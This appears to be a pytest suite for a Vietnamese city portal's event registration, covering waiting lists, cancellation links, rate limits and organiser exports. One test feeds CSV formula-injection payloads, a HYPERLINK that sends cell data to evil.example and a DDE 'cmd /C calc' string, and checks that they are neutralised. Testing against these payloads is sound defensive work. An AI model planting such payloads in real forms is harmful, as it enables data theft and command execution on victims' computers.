"""Registering from the public form: a seat or the waiting list, the confirmation with the .ics,
the cancellation link and promotion, and clear messages when something is wrong."""

import csv
import datetime
import io
import re

from django.contrib.auth import get_user_model
from django.utils import timezone
from icalendar import Calendar

from cityportal.events.models import Accreditation, Registration

from .conftest import attachments

DAY = datetime.timedelta(days=1)
S = Registration.Status


def register(client, event, **fields):
    data = {
        "name": "Nguyễn Văn An",
        "email": "an@example.invalid",
        "phone": "0901 234 567",
        "organisation": "",
        "consent": "on",
        **fields,
    }
    return client.post(f"/su-kien/dang-ky/{event.pk}/", data)


def test_form_is_uncached_and_counts_seats(client, make_event):
    event = make_event(capacity=3)
    response = client.get(f"/su-kien/dang-ky/{event.pk}/")
    assert "csrftoken" in response.cookies and "no-cache" in response["Cache-Control"]
    assert "Còn 3 chỗ." in response.content.decode()
    fragment = client.get(f"/su-kien/dang-ky/{event.pk}/?fragment=1").content.decode()
    assert fragment.startswith('<div class="registration-box"') or "registration-box" in fragment
    assert "<html" not in fragment


def test_confirmation_email_carries_the_ics(
    client, make_event, mailbox, django_capture_on_commit_callbacks
):
    event = make_event("Hội thảo kinh tế số", capacity=10)
    with django_capture_on_commit_callbacks(execute=True):
        response = register(client, event, email="An@Example.invalid")
    assert response.status_code == 200
    assert "Đăng ký thành công" in response.content.decode()
    saved = Registration.objects.get()
    assert (saved.status, saved.email) == (S.CONFIRMED, "an@example.invalid")
    [message] = mailbox.whole
    assert message["To"] == "an@example.invalid"
    assert message["Subject"].strip() == "Xác nhận đăng ký: Hội thảo kinh tế số"
    body = message.get_body(("plain",)).get_content()
    # The cancellation link names this registration (its token is signed with the time, so
    # it is read back rather than compared with one made a second later).
    [token] = re.findall(r"/su-kien/huy-dang-ky/([^/\s]+)/", body)
    assert Registration.from_cancel_token(token) == saved
    ics = attachments(message)[f"{event.slug}.ics"]
    [vevent] = Calendar.from_ical(ics).walk("VEVENT")
    assert vevent["SUMMARY"] == "Hội thảo kinh tế số"


def test_full_event_waits_and_a_cancellation_promotes_the_first_in_line(
    client, make_event, mailbox, django_capture_on_commit_callbacks
):
    event = make_event("Tọa đàm nhỏ", capacity=1)
    with django_capture_on_commit_callbacks(execute=True):
        register(client, event, name="Người Một", email="mot@example.invalid")
        second = register(client, event, name="Người Hai", email="hai@example.invalid")
        register(client, event, name="Người Ba", email="ba@example.invalid")
    assert "Sự kiện đã hết chỗ" in second.content.decode()
    statuses = dict(Registration.objects.values_list("email", "status"))
    assert statuses == {
        "mot@example.invalid": S.CONFIRMED,
        "hai@example.invalid": S.WAITING,
        "ba@example.invalid": S.WAITING,
    }
    assert "Bạn đứng thứ 1 trong danh sách chờ" in mailbox.messages[1][1]
    assert "Bạn đứng thứ 2 trong danh sách chờ" in mailbox.messages[2][1]
    mailbox.whole.clear(), mailbox.messages.clear()

    first = Registration.objects.get(email="mot@example.invalid")
    link = client.get(
        first.get_cancel_url()
    )  # opening the link (or a mail scanner) cancels nothing
    assert "Hủy đăng ký" in link.content.decode()
    assert Registration.objects.get(pk=first.pk).status == S.CONFIRMED
    with django_capture_on_commit_callbacks(execute=True):
        done = client.post(first.get_cancel_url())
    assert "Đã hủy đăng ký" in done.content.decode()
    statuses = dict(Registration.objects.values_list("email", "status"))
    assert statuses["mot@example.invalid"] == S.CANCELLED
    assert statuses["hai@example.invalid"] == S.CONFIRMED  # the first in line
    assert statuses["ba@example.invalid"] == S.WAITING
    promoted = next(m for m in mailbox.whole if m["To"] == "hai@example.invalid")
    assert promoted["Subject"].strip() == "Đã có chỗ cho bạn: Tọa đàm nhỏ"
    assert f"{event.slug}.ics" in attachments(promoted)
    # Cancelling twice changes nothing and says so.
    again = client.post(first.get_cancel_url())
    assert "đã được hủy trước đó" in again.content.decode()


def _answer(response) -> str:
    """The notice the form answers with (the page around it carries a fresh CSRF token)."""
    return re.search(r'<div class="notice" role="status">.*?</div>', response.text, re.S).group()


def test_an_address_already_registered_is_answered_as_a_new_one_and_only_its_mail_says_so(
    client, make_event, mailbox, django_capture_on_commit_callbacks
):
    """The form said "Email này đã được dùng để đăng ký" (409): anyone could test whether an
    address signed up for an event. Now the page is the same as for anyone new; the owner of
    the address is mailed that nothing changed, with their own cancellation link."""
    event = make_event("Hội thảo riêng tư", capacity=5)
    with django_capture_on_commit_callbacks(execute=True):
        first = register(client, event)
        again = register(client, event, name="Kẻ Dò Thử", email=" AN@example.invalid ")
        newcomer = register(client, event, name="Người Mới", email="moi@example.invalid")
    assert first.status_code == again.status_code == newcomer.status_code == 200
    assert _answer(again) == _answer(first) == _answer(newcomer)
    assert "Đăng ký thành công" in _answer(again)
    kept = Registration.objects.get(email="an@example.invalid")
    assert (kept.name, kept.status) == ("Nguyễn Văn An", S.CONFIRMED)  # nothing overwritten
    assert Registration.objects.count() == 2  # no second row, no second seat
    assert "Còn 3 chỗ." in client.get(f"/su-kien/dang-ky/{event.pk}/").text

    [reminder] = [m for m in mailbox.whole[1:] if m["To"] == "an@example.invalid"]
    assert reminder["Subject"].strip() == "Bạn đã đăng ký từ trước: Hội thảo riêng tư"
    body = reminder.get_body(("plain",)).get_content()
    assert body.startswith("Chào Nguyễn Văn An,") and "Kẻ Dò Thử" not in body
    assert "không có đăng ký mới" in body and "bạn đã có chỗ" in body
    [token] = re.findall(r"/su-kien/huy-dang-ky/([^/\s]+)/", body)
    assert Registration.from_cancel_token(token) == kept
    assert f"{event.slug}.ics" in attachments(reminder)


def test_an_address_waiting_is_answered_as_a_newcomer_to_a_full_event(
    client, make_event, mailbox, django_capture_on_commit_callbacks
):
    event = make_event("Tọa đàm đầy chỗ", capacity=1)
    with django_capture_on_commit_callbacks(execute=True):
        register(client, event, name="Người Một", email="mot@example.invalid")
        register(client, event, name="Người Hai", email="hai@example.invalid")
        mailbox.whole.clear(), mailbox.messages.clear()
        again = register(client, event, name="Người Hai", email="hai@example.invalid")
        newcomer = register(client, event, name="Người Ba", email="ba@example.invalid")
        seated_again = register(client, event, name="Người Một", email="mot@example.invalid")
    assert again.status_code == newcomer.status_code == seated_again.status_code == 200
    assert _answer(again) == _answer(newcomer) == _answer(seated_again)
    assert "Sự kiện đã hết chỗ" in _answer(again)
    assert list(event.registrations.waiting().values_list("email", flat=True)) == [
        "hai@example.invalid",
        "ba@example.invalid",
    ]
    told = {recipients[0]: text for recipients, text in mailbox.messages}
    assert "bạn đứng thứ 1 trong danh sách chờ" in told["hai@example.invalid"]
    assert "Bạn đứng thứ 2 trong danh sách chờ" in told["ba@example.invalid"]
    assert "bạn đã có chỗ" in told["mot@example.invalid"]  # the mail, not the page, says so


def test_the_form_mails_one_address_a_few_times_a_day_at_most(
    client, make_event, mailbox, django_capture_on_commit_callbacks
):
    """Answered alike, a known address is mailed each time the form names it: capped, so the
    form cannot flood someone's inbox (the confirmation of a new registration counts too)."""
    event = make_event(capacity=5)
    with django_capture_on_commit_callbacks(execute=True):
        answers = [register(client, event) for _ in range(6)]
    assert [r.status_code for r in answers] == [200] * 6
    assert len({_answer(r) for r in answers}) == 1
    assert len(mailbox.messages) == 3 and Registration.objects.count() == 1
    other = make_event(capacity=5)  # another event is another registration, mailed
    with django_capture_on_commit_callbacks(execute=True):
        register(client, other)
    assert len(mailbox.messages) == 4


def test_someone_who_cancelled_may_register_again(client, make_event):
    event = make_event(capacity=5)
    register(client, event)
    client.post(Registration.objects.get().get_cancel_url())
    response = register(client, event)
    assert response.status_code == 200
    assert Registration.objects.get().status == S.CONFIRMED


def test_invalid_input_is_named_beside_each_field(client, make_event):
    event = make_event()
    response = register(client, event, name="  ", email="khong-phai-email", consent="")
    html = response.content.decode()
    assert response.status_code == 400
    assert "Vui lòng nhập họ tên." in html
    assert "Địa chỉ email không hợp lệ." in html
    assert "Cần đồng ý với việc xử lý dữ liệu cá nhân" in html
    assert 'value="0901 234 567"' in html
    assert not Registration.objects.exists()


def test_closed_past_and_cancelled_events_say_why(client, make_event):
    from django.utils import timezone

    closed = make_event(registration_closes_at=timezone.now() - DAY, starts_in=3 * DAY)
    past = make_event(starts_in=-2 * DAY)
    cancelled = make_event(cancelled=True)
    not_yet = make_event(registration_opens_at=timezone.now() + DAY, starts_in=5 * DAY)
    cases = [
        (closed, "Đã hết hạn đăng ký"),
        (past, "Sự kiện đã bắt đầu hoặc đã diễn ra"),
        (cancelled, "Sự kiện đã bị hủy"),
        (not_yet, "Chưa mở đăng ký"),
    ]
    for event, message in cases:
        assert message in client.get(f"/su-kien/dang-ky/{event.pk}/").content.decode()
        response = register(client, event)
        assert response.status_code == 409 and message in response.content.decode()
    assert not Registration.objects.exists()


def test_forged_cancellation_link_is_refused(client, make_event):
    event = make_event()
    register(client, event)
    token = Registration.objects.get().cancel_token
    forged = re.sub(r".$", lambda m: "A" if m.group() != "A" else "B", token)
    response = client.post(f"/su-kien/huy-dang-ky/{forged}/")
    assert response.status_code == 404
    assert Registration.objects.get().status == S.CONFIRMED


def test_unpublished_event_takes_no_registration(client, make_event):
    event = make_event()
    event.unpublish()
    assert register(client, event).status_code == 404


def test_a_bigger_room_gives_the_waiting_list_its_seats_when_published(
    client, make_event, mailbox, django_capture_on_commit_callbacks
):
    event = make_event("Tọa đàm đông người", capacity=1)
    with django_capture_on_commit_callbacks(execute=True):
        register(client, event, name="Người Một", email="mot@example.invalid")
        register(client, event, name="Người Hai", email="hai@example.invalid")
        register(client, event, name="Người Ba", email="ba@example.invalid")
    mailbox.whole.clear(), mailbox.messages.clear()
    event.capacity = 2  # the editor moves it to a bigger room and publishes
    with django_capture_on_commit_callbacks(execute=True):
        event.save_revision().publish()
    statuses = dict(Registration.objects.values_list("email", "status"))
    assert statuses["hai@example.invalid"] == S.CONFIRMED  # the first in line
    assert statuses["ba@example.invalid"] == S.WAITING
    [(recipients, text)] = mailbox.messages
    assert recipients == ["hai@example.invalid"] and "Đã có chỗ cho bạn" in text


def test_a_script_cannot_take_every_seat_from_one_address(client, make_event, settings):
    """Past the hourly limit per address: 429, the form and what was typed kept, no seat taken;
    another address still registers."""
    settings.EVENTS_RATE_PER_IP = (3, 3600)
    event = make_event(capacity=10)
    for n in range(3):
        assert register(client, event, email=f"bot{n}@example.invalid").status_code == 200
    refused = register(client, event, name="Người thứ tư", email="bot3@example.invalid")
    assert refused.status_code == 429
    html = refused.content.decode()
    assert "Có quá nhiều lượt gửi" in html and 'value="Người thứ tư"' in html
    assert Registration.objects.count() == 3
    other = client.post(
        f"/su-kien/dang-ky/{event.pk}/",
        {"name": "Trần Thị Bình", "email": "binh@example.invalid", "consent": "on"},
        REMOTE_ADDR="203.0.113.9",
    )
    assert other.status_code == 200 and Registration.objects.count() == 4


def test_the_organisers_csv_of_sign_ups_opens_in_excel(client, make_event):
    event = make_event(title="Tọa đàm chuyển đổi số", capacity=10)
    register(client, event, name="Nguyễn Thị Hồng Nhung", organisation="Phường Bến Thành")
    staff = get_user_model().objects.create_superuser("btc", "btc@example.invalid", "pw")
    client.force_login(staff)
    response = client.get("/admin/events/registrations/", {"export": "csv"})
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")  # the BOM: without it Excel garbles Vietnamese
    assert "Nguyễn Thị Hồng Nhung" in body.decode("utf-8-sig")


def test_the_sign_ups_export_gives_vietnam_time_and_the_status_in_words(client, make_event):
    import io

    import openpyxl

    event = make_event(title="Tọa đàm giờ đăng ký", capacity=10)
    at = datetime.datetime(2031, 1, 2, 23, 30, tzinfo=datetime.UTC)  # 06:30 on 3/1 in Vietnam
    Registration.objects.create(
        event=event, name="An", email="an@example.invalid", status=S.CONFIRMED, created_at=at
    )
    staff = get_user_model().objects.create_superuser("btc", "btc@example.invalid", "pw")
    client.force_login(staff)
    csv = b"".join(client.get("/admin/events/registrations/?export=csv").streaming_content)
    [_, row] = csv.decode("utf-8-sig").splitlines()
    assert row.endswith(",Đã có chỗ,2031-01-03 06:30:00,,")
    response = client.get("/admin/events/registrations/?export=xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    [headings, values] = sheet.iter_rows(values_only=True)
    assert headings[-4:-1] == ("Trạng thái", "Đăng ký lúc", "Có mặt lúc")
    assert values[-4:-1] == ("Đã có chỗ", datetime.datetime(2031, 1, 3, 6, 30), None)


def test_a_control_character_in_a_name_does_not_break_the_xlsx_export(client, make_event):
    """A vertical tab pasted into a name (from a spreadsheet) is no XML: openpyxl refused the
    whole sheet and the export was a 500."""
    import io

    import openpyxl

    event = make_event(title="Tọa đàm", capacity=10)
    Registration.objects.create(
        event=event, name="Lê\x0bVăn An", email="an@example.invalid", status=S.CONFIRMED
    )
    client.force_login(get_user_model().objects.create_superuser("btc", "b@example.invalid", "pw"))
    response = client.get("/admin/events/registrations/?export=xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert "LêVăn An" in [cell for row in sheet.iter_rows(values_only=True) for cell in row]


def test_cancelling_the_event_tells_everyone_expecting_it_once_and_promotes_nobody(
    client, make_event, mailbox, django_capture_on_commit_callbacks
):
    event = make_event("Tọa đàm bị hủy", capacity=1)
    with django_capture_on_commit_callbacks(execute=True):
        register(client, event, name="Người Một", email="mot@example.invalid")
        register(client, event, name="Người Hai", email="hai@example.invalid")
        register(client, event, name="Người Ba", email="ba@example.invalid")
    client.post(Registration.objects.get(email="ba@example.invalid").get_cancel_url())
    Accreditation.objects.create(
        event=event,
        reporter_name="Phóng viên Tư",
        outlet="Báo Thử",
        press_card_number="AB 123",
        email="tu@example.invalid",
        phone="0901",
        status=Accreditation.Status.APPROVED,
    )
    mailbox.whole.clear(), mailbox.messages.clear()
    sessions = mailbox.sessions
    event.cancelled, event.capacity = True, 5  # the organiser cancels (and the room was bigger)
    with django_capture_on_commit_callbacks(execute=True):
        event.save_revision().publish()
    told = {recipients[0]: text for recipients, text in mailbox.messages}
    assert set(told) == {"mot@example.invalid", "hai@example.invalid", "tu@example.invalid"}
    assert mailbox.sessions == sessions + 1  # one connection for everyone told, not one each
    assert all(text.lstrip().startswith("Sự kiện bị hủy: Tọa đàm bị hủy") for text in told.values())
    assert "đã bị hủy" in told["mot@example.invalid"]
    # Nobody waiting is told a seat is free at a cancelled event.
    assert Registration.objects.get(email="hai@example.invalid").status == S.WAITING
    # The calendar entry the attendee has is marked cancelled.
    ics = next(m for m in mailbox.whole if m["To"] == "mot@example.invalid")
    [vevent] = Calendar.from_ical(next(iter(attachments(ics).values()))).walk("VEVENT")
    assert vevent["STATUS"] == "CANCELLED"
    # Publishing it again (a typo fixed) tells nobody twice.
    mailbox.messages.clear()
    event.title = "Tọa đàm bị hủy (đã hủy)"
    with django_capture_on_commit_callbacks(execute=True):
        event.save_revision().publish()
    assert mailbox.messages == []


def test_moving_the_event_sends_the_new_time_in_vietnam_time_with_an_updated_ics(
    client, make_event, mailbox, django_capture_on_commit_callbacks
):
    start = timezone.make_aware(datetime.datetime(2031, 3, 10, 8, 0))
    event = make_event("Hội thảo dời lịch", starts_at=start)
    with django_capture_on_commit_callbacks(execute=True):
        register(client, event, name="Người Một", email="mot@example.invalid")
    mailbox.whole.clear(), mailbox.messages.clear()
    event.summary = "Một câu mới."  # a draft edit is no move
    with django_capture_on_commit_callbacks(execute=True):
        event.save_revision()
    assert mailbox.messages == []
    event.starts_at = start + 2 * DAY + datetime.timedelta(hours=6)  # 14:00 two days later
    event.ends_at = event.starts_at + datetime.timedelta(hours=2)
    event.venue = "Hội trường B"
    with django_capture_on_commit_callbacks(execute=True):
        event.save_revision().publish()
    [(recipients, text)] = mailbox.messages
    text = text.replace("\r\n", "\n")
    assert recipients == ["mot@example.invalid"]
    assert text.lstrip().startswith("Thay đổi thời gian, địa điểm: Hội thảo dời lịch")
    assert "Thời gian: Thứ Tư, 12/3/2031, 14:00 - 16:00 (giờ Việt Nam)" in text
    assert "Địa điểm: Hội trường B" in text
    assert (
        "(trước đây: Thứ Hai, 10/3/2031, 08:00 - 10:00 (giờ Việt Nam), Hội trường Thành ủy)" in text
    )
    assert "/su-kien/huy-dang-ky/" in text
    [vevent] = Calendar.from_ical(next(iter(attachments(mailbox.whole[0]).values()))).walk("VEVENT")
    assert vevent.decoded("DTSTART") == event.starts_at
    assert str(vevent["UID"]) == f"su-kien-{event.pk}@" + str(vevent["UID"]).split("@")[1]


def test_an_event_number_too_long_for_the_database_is_not_found(client, events_index):
    for path in (
        "/su-kien/dang-ky/99999999999999999999/",
        "/su-kien/tac-nghiep/99999999999999999999/",
    ):
        assert client.get(path).status_code == 404
        assert client.post(path, {"name": "An"}).status_code == 404


def test_sign_ups_typed_as_formulas_stay_text_in_the_csv(client, make_event):
    """A name like =HYPERLINK(…) from the public form ran as a formula in the organiser's Excel."""
    event = make_event(title="Tọa đàm công thức", capacity=10)
    register(
        client,
        event,
        name='=HYPERLINK("//evil.example/?"&A1,"Xem")',
        organisation="@SUM(1+1)*cmd|' /C calc'!A0",
        phone="+84 903 456 789",
    )
    staff = get_user_model().objects.create_superuser("btc", "btc@example.invalid", "pw")
    client.force_login(staff)
    body = b"".join(client.get("/admin/events/registrations/?export=csv").streaming_content)
    [_, row] = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert row[1] == '\'=HYPERLINK("//evil.example/?"&A1,"Xem")'
    assert row[3] == "'+84 903 456 789" and row[4] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def test_a_name_with_a_link_is_not_mailed_to_the_address_typed_beside_it(
    client, make_event, mailbox, django_capture_on_commit_callbacks
):
    """Anyone could have the portal mail "Chào <their text with a link>" to any inbox."""
    event = make_event(capacity=10)
    for name in ("Nhận quà tại https://qua-tang.example/nhan", "Bạn trúng thưởng www.evil.example"):
        with django_capture_on_commit_callbacks(execute=True):
            refused = register(client, event, name=name, email="nan-nhan@example.invalid")
        assert refused.status_code == 400
        assert "Họ tên không được chứa đường dẫn" in refused.content.decode()
    assert not Registration.objects.exists() and not mailbox.messages
    with django_capture_on_commit_callbacks(execute=True):
        assert register(client, event, name="PGS.TS Nguyễn Văn An").status_code == 200
    assert len(mailbox.messages) == 1


def test_a_registrant_withdrawing_before_the_event_is_in_the_history_with_when(
    client, make_event, django_capture_on_commit_callbacks
):
    """Cancelling left no trace but the status: staff could not see who withdrew, or when."""
    from django.urls import reverse
    from wagtail.models import ModelLogEntry

    from cityportal.feedback.privacy import erase_person

    event = make_event("Tọa đàm có người rút", capacity=1)
    register(client, event, name="Người Một", email="mot@example.invalid")
    register(client, event, name="Người Hai", email="hai@example.invalid")
    first = Registration.objects.get(email="mot@example.invalid")
    client.post(first.get_cancel_url())
    client.post(first.get_cancel_url())  # cancelling twice is logged once
    [entry] = ModelLogEntry.objects.filter(action="events.registration_cancelled")
    assert entry.object_id == str(first.pk) and entry.user is None
    assert abs(entry.timestamp - Registration.objects.get(pk=first.pk).cancelled_at) < DAY / 24

    staff = get_user_model().objects.create_superuser("btc", "btc@example.invalid", "pw")
    client.force_login(staff)
    history = client.get(reverse("events_registrations:history", args=[first.pk])).text
    assert "Tự hủy đăng ký tham dự “Tọa đàm có người rút” trước giờ diễn ra (đã có chỗ)" in history
    assert "1 người trong danh sách chờ được nhận chỗ" in history
    site = client.get("/admin/reports/site-history/").text
    assert "Người Một" in site and "Hủy đăng ký tham dự" in site

    # The history names the person: a data erasure request takes the name out of it too.
    with django_capture_on_commit_callbacks(execute=True):
        erase_person("mot@example.invalid", by="test")
    assert "Người Một" not in ModelLogEntry.objects.get(pk=entry.pk).label
    assert "Người Một" not in client.get("/admin/reports/site-history/").text


def test_a_cancellation_link_opened_once_the_event_began_says_so_at_once(client, make_event):
    """The page offered the button, and only the click said it was too late, in a response
    whose Content-Type was "409" (the status passed where render() takes the content type)."""
    event = make_event(starts_in=-datetime.timedelta(hours=1), hours=3)
    late = Registration.objects.create(
        event=event, name="Người Đến Muộn", email="muon@example.invalid", status=S.CONFIRMED
    )
    page = client.get(late.get_cancel_url())
    assert "Sự kiện đã bắt đầu hoặc đã diễn ra, không thể hủy đăng ký." in page.text
    assert "Hủy đăng ký</button>" not in page.text
    refused = client.post(late.get_cancel_url())
    assert refused.status_code == 409 and refused["Content-Type"].startswith("text/html")
    assert Registration.objects.get(pk=late.pk).status == S.CONFIRMED


def test_cancelling_for_a_cancelled_or_withdrawn_event_invites_nobody_to_register_again(
    client, make_event, mailbox, django_capture_on_commit_callbacks
):
    """The mail said "Bạn có thể đăng ký lại … nếu còn chỗ" for an event that will not happen,
    and the page's "keep my registration" link of an event taken off the site led to /None."""
    cancelled = make_event("Tọa đàm đã hủy", capacity=5)
    withdrawn = make_event("Tọa đàm gỡ khỏi trang", capacity=5)
    for event in (cancelled, withdrawn):
        register(client, event)
    cancelled.cancelled = True
    cancelled.save_revision().publish()
    withdrawn.unpublish()
    mailbox.messages.clear()
    for event in (cancelled, withdrawn):
        link = Registration.objects.get(event=event).get_cancel_url()
        assert 'href="None"' not in client.get(link).text
        with django_capture_on_commit_callbacks(execute=True):
            assert "Đã hủy đăng ký" in client.post(link).text
    texts = [text for _, text in mailbox.messages]
    assert len(texts) == 2 and all("Cảm ơn bạn đã báo trước." in text for text in texts)
    assert not any("đăng ký lại" in text for text in texts)


def test_a_promotion_and_a_bulk_check_in_are_in_the_history_with_who_and_when(
    client, make_event, django_capture_on_commit_callbacks
):
    """A seat given from the waiting list and the door's "Đánh dấu có mặt" changed rows and left
    no trace: staff could not see when someone got their seat, or who marked them present."""
    from django.urls import reverse
    from wagtail.models import ModelLogEntry

    event = make_event("Tọa đàm đông khách", capacity=1)
    for n in range(3):
        register(client, event, name=f"Người {n}", email=f"n{n}@example.invalid")
    first, second, third = Registration.objects.order_by("created_at", "pk")
    client.post(first.get_cancel_url())
    [entry] = ModelLogEntry.objects.filter(action="events.registration_promoted")
    assert entry.object_id == str(second.pk) and entry.user is None
    assert abs(entry.timestamp - Registration.objects.get(pk=second.pk).promoted_at) < DAY / 24
    event.capacity = 2  # a bigger room, published
    event.save_revision().publish()
    assert ModelLogEntry.objects.filter(action="events.registration_promoted").count() == 2

    staff = get_user_model().objects.create_superuser("btc", "btc@example.invalid", "pw")
    client.force_login(staff)
    history = client.get(reverse("events_registrations:history", args=[second.pk])).text
    assert "Được nhận chỗ tham dự “Tọa đàm đông khách” từ danh sách chờ (có người hủy" in history
    history = client.get(reverse("events_registrations:history", args=[third.pk])).text
    assert "từ danh sách chờ (sự kiện có thêm chỗ trống)" in history

    url = reverse("wagtail_bulk_action", args=["events", "registration", "check_in"])
    done = client.post(f"{url}?id={second.pk}&id={third.pk}", {})
    assert done.status_code == 302
    client.post(f"{url}?id={second.pk}", {})  # marked already: not marked, nor logged, again
    entries = ModelLogEntry.objects.filter(action="events.registration_checked_in")
    assert sorted(e.object_id for e in entries) == sorted([str(second.pk), str(third.pk)])
    assert all(e.user == staff for e in entries)
    checked = Registration.objects.get(pk=third.pk).checked_in_at
    assert checked and abs(entries[0].timestamp - checked) < DAY / 24
    history = client.get(reverse("events_registrations:history", args=[third.pk])).text
    assert "Đánh dấu có mặt tại “Tọa đàm đông khách”" in history


def test_the_sign_ups_list_and_export_say_when_a_registration_was_cancelled(client, make_event):
    """Organisers saw "Đã hủy" and not when: a withdrawal the day before and one a month ahead
    looked alike. The time comes last in the export, every earlier column where it was."""
    import openpyxl

    event = make_event(title="Tọa đàm có người hủy", capacity=10)
    at = datetime.datetime(2031, 1, 2, 23, 30, tzinfo=datetime.UTC)  # 06:30 on 3/1 in Vietnam
    Registration.objects.create(
        event=event,
        name="=HYPERLINK(1)",
        email="an@example.invalid",
        status=S.CANCELLED,
        created_at=at - DAY,
        cancelled_at=at,
    )
    client.force_login(get_user_model().objects.create_superuser("btc", "b@example.invalid", "pw"))
    listing = client.get("/admin/events/registrations/").text
    assert "Hủy lúc" in listing
    body = b"".join(client.get("/admin/events/registrations/?export=csv").streaming_content)
    [headings, row] = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    columns = ["Sự kiện", "Họ tên", "Email", "Điện thoại", "Cơ quan, đơn vị", "Trạng thái"]
    assert headings == [*columns, "Đăng ký lúc", "Có mặt lúc", "Hủy lúc"]
    assert row[1] == "'=HYPERLINK(1)"  # still no formula in the organiser's Excel
    assert row[5:] == ["Đã hủy", "2031-01-02 06:30:00", "", "2031-01-03 06:30:00"]
    response = client.get("/admin/events/registrations/?export=xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    [headings, values] = sheet.iter_rows(values_only=True)
    assert headings[-1] == "Hủy lúc" and values[-1] == datetime.datetime(2031, 1, 3, 6, 30)
